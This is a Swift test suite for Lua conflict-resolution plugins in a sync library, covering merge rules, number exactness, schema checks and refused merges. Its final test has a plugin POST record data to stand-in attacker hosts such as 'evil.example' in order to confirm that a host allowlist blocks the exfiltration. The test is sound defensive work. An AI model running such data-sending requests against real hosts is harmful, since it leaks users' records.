import SluiceCore
import SluiceTesting
import Testing

@testable import SluiceLua

@Suite("A plugin that decides conflicts")
struct LuaConflictHandlerTests {
    let base: JSON = ["id": "1", "version": "a", "title": "milk", "count": 5, "tags": ["x", "y"], "note": "one\ntwo"]

    func conflict(
        client: JSON?, server: JSON?, base: JSON?? = nil, maybeApplied: Bool = false
    ) -> Conflict {
        let operation = TableOperation(
            id: "op", sequence: 1, table: "todos", recordID: "1", kind: .update,
            createdAt: Timestamp("2026-01-02T00:00:00Z")!)
        return Conflict(
            operation: operation, client: client, server: server, base: base ?? self.base, maybeApplied: maybeApplied,
            status: 412, isDeletedOnServer: server == nil)
    }

    func changed(_ changes: JSON) -> JSON {
        var record = base
        for (name, value) in changes.members ?? [] { record[name] = value }
        return record
    }

    func decide(_ body: String, _ conflict: Conflict) async throws -> ConflictDecision {
        let plugins = try await PluginText(
            ["on_conflict"], "return { on_conflict = function(c, ctx)\n\(body)\nend }"
        ).loaded()
        return try await plugins.conflictHandler.decide(conflict)
    }

    @Test(
        "each decision reaches the engine",
        arguments: [
            ("decide.server()", ConflictDecision.server), ("decide.client()", .client), ("decide.delete()", .delete),
            ("decide.discard()", .discard), ("decide.defer { after = 5 }", .defer),
            ("decide.ask { reason = 'x' }", .ask),
            ("decide.next()", .next), ("c:default_policy()", .next), ("nil", .next),
        ])
    func decisions(text: String, decision: ConflictDecision) async throws {
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer", "version": "b"]))
        #expect(try await decide("return \(text)", conflict) == decision)
    }

    @Test("a merge takes what one side changed, and asks a rule for what both did")
    func merge() async throws {
        let client = changed(["title": "tea", "count": 7, "tags": ["x", "z"]])
        let server = changed(["title": "beer", "count": 6, "tags": ["x", "y", "w"], "version": "b", "extra": true])
        let decision = try await decide(
            "return c:merge { title = 'client', count = 'sum_delta', tags = 'union', default = 'server' }",
            conflict(client: client, server: server))
        var merged = server
        merged["title"] = "tea"
        merged["count"] = 8
        merged["tags"] = ["x", "w", "z"]
        #expect(decision == .merge(merged))
    }

    @Test("a rule may be a function of both values and the base")
    func functions() async throws {
        let decision = try await decide(
            "return c:merge { title = function(mine, theirs, old) return mine .. '+' .. theirs .. '-' .. old end }",
            conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"])))
        guard case .merge(let merged) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
        #expect(merged["title"] == "tea+beer-milk")
    }

    @Test("texts are merged line by line, and lists of lines without losing one")
    func lines() async throws {
        let client = changed(["note": "one\ntwo\nthree"])
        let server = changed(["note": "zero\none\ntwo"])
        for (rule, note) in [("text3", "zero\none\ntwo\nthree"), ("concat_lines", "zero\none\ntwo\nthree")] {
            let decision = try await decide(
                "return c:merge { note = '\(rule)' }", conflict(client: client, server: server))
            guard case .merge(let merged) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
            #expect(merged["note"]?.string == note)
        }
    }

    @Test("a sum that may have been added already is left to a person")
    func sumIsNotDoubled() async throws {
        let conflict = conflict(
            client: changed(["count": 7]), server: changed(["count": 8]), maybeApplied: true)
        #expect(try await decide("return c:merge { default = 'sum_delta' }", conflict) == .ask)
    }

    @Test(
        "sum_delta adds whole numbers to the last digit, and asks where the sum cannot be exact",
        arguments: [
            ("9007199254740995", "9223372036854775801", "9007199254740993", "9223372036854775803"),
            ("-9223372036854775808", "-1", "-9223372036854775807", "-2"), ("0.75", "2", "0.5", "2.25"),
            ("9223372036854775807", "1", "0", nil), ("-9223372036854775808", "2", "1", nil),
            ("9223372036854775807", "0", "-1", nil), ("-2", "-9223372036854775807", "0", nil),
            ("0.5", "9007199254740993", "0", nil), ("9007199254740993", "-9007199254740000", "0.5", nil),
            ("0.5", "3", "9007199254740992", nil),
        ] as [(String, String, String, String?)])
    func exactSum(client: String, server: String, base: String, sum: String?) async throws {
        func record(_ number: String) throws -> JSON { try JSON(parsing: #"{"id": "1", "n": \#(number)}"#) }
        let conflict = Conflict(
            operation: conflict(client: self.base, server: self.base).operation, client: try record(client),
            server: try record(server), base: try record(base), maybeApplied: false, status: 412,
            isDeletedOnServer: false)
        let expected: ConflictDecision = try sum.map { .merge(try record($0)) } ?? .ask
        #expect(try await decide("return c:merge { n = 'sum_delta' }", conflict) == expected)
    }

    @Test("what has no rule, and what one side deleted, goes to the next handler")
    func next() async throws {
        let both = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"]))
        #expect(try await decide("return c:merge { count = 'max' }", both) == .next)
        #expect(try await decide("return c:merge { default = 'max' }", conflict(client: base, server: nil)) == .next)
    }

    @Test("numbers that Lua cannot hold pass a merge as they are")
    func exactNumbers() async throws {
        let number = JSON(JSONNumber(text: "12345678901234567.89")!)
        let decision = try await decide(
            "return c:merge { default = 'client' }",
            conflict(client: changed(["title": "tea", "count": number]), server: changed(["title": "b", "count": 1])))
        guard case .merge(let merged) = decision else { throw SluiceError(.conflict, "no merge: \(decision)") }
        #expect(merged["count"]?.description == "12345678901234567.89")
    }

    @Test("a whole record may be written on one side and returned")
    func wholeRecord() async throws {
        let client = changed(["title": "tea"])
        let server = changed(["title": "beer", "version": "b"])
        let decision = try await decide(
            "c.server.title = c.client.title .. '!'\nreturn decide.merge(c.server, { reason = 'mine' })",
            conflict(client: client, server: server))
        var merged = server
        merged["title"] = "tea!"
        #expect(decision == .merge(merged))
    }

    @Test(
        "what a merge may not be is refused, and the operation is held",
        arguments: [
            "local r = c.server:to_table() r.id = '2' return decide.merge(r)",
            "local r = c.server:to_table() r.version = 'z' return decide.merge(r)",
            "local r = c.server:to_table() r.deleted = true return decide.merge(r)",
            "c.server.version = 'z' return decide.merge(c.server)",
            "c.server.id = '2' return decide.merge(c.server)",
            "return decide.merge('text')", "return decide.merge()", "return decide.merge({ title = 'x' })",
            "c.server.title = 0/0 return decide.merge(c.server)",
            "c.server.title = '\\xff' return decide.merge(c.server)",
            "c.server.count = 2^60 return decide.merge(c.server)",
            "return decide.merge({ list = { 1, nil, 3 } })", "return decide.merge({ m = { 1, 2, x = 3 } })",
            "local t = {} t.t = t return decide.merge(t)", "return 'client'", "return decide.push()", "return {}",
            "return { decision = 'explode' }", "return c", "error('no')", "while true do end",
            "return c:merge { title = 'biggest' }", "return decide.merge({ f = print })",
        ])
    func refused(body: String) async throws {
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer", "version": "b"]))
        let error = await #expect(throws: SluiceError.self) { try await decide(body, conflict) }
        #expect(error?.code == .hookFailed && error?.recordID == "1" && error?.cause is PluginFailure)
        #expect(error?.message.contains("probe") == true)
    }

    @Test("the columns of a declared table hold for a merge")
    func schema() async throws {
        let table = TableSchema("todos", columns: [.init("count", .integer), .init("title", .string)])
        let plugins = try await PluginText(
            ["on_conflict"],
            "return { on_conflict = function(c) c.server.count = 'many' return decide.merge(c.server) end }"
        ).loaded(PluginOptions(tables: [table]))
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"]))
        let error = await #expect(throws: SluiceError.self) { try await plugins.conflictHandler.decide(conflict) }
        #expect(error?.message.contains("count of todos is integer") == true)
    }

    @Test(
        "the deployment may say what a failure becomes",
        arguments: [
            ("next", ConflictDecision.next), ("server", .server), ("client", .client),
        ])
    func policies(policy: String, decision: ConflictDecision) async throws {
        let plugins = try await PluginText(
            ["on_conflict": ["on_error": JSON(policy)]], "return { on_conflict = function() error('no') end }"
        ).loaded()
        #expect(try await plugins.conflictHandler.decide(conflict(client: base, server: base)) == decision)
    }

    @Test("a record leaves a conflict to hosts that the permission names, and to no other")
    func noSmuggling() async throws {
        let net = ScriptedTransport([], otherwise: .json(200, "{}"))
        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"]))
        func decide(_ url: String) async throws -> ConflictDecision {
            try await PluginText(
                ["on_conflict"],
                """
                return { on_conflict = function(c)
                  http.request { method = "POST", url = "\(url)", json = c.client:to_table() }
                  return decide.client()
                end }
                """, extra: ["permissions": ["http": ["api.example.com"]]]
            ).loaded(PluginOptions(transport: net)).conflictHandler.decide(conflict)
        }
        #expect(try await decide("https://api.example.com/x") == .client)
        for url in ["https://evil.example/", "https://api.example.com.evil.example/", "https://10.0.0.1/"] {
            await #expect(throws: SluiceError.self) { try await decide(url) }
        }
        #expect(net.requests.count == 1)
    }
}
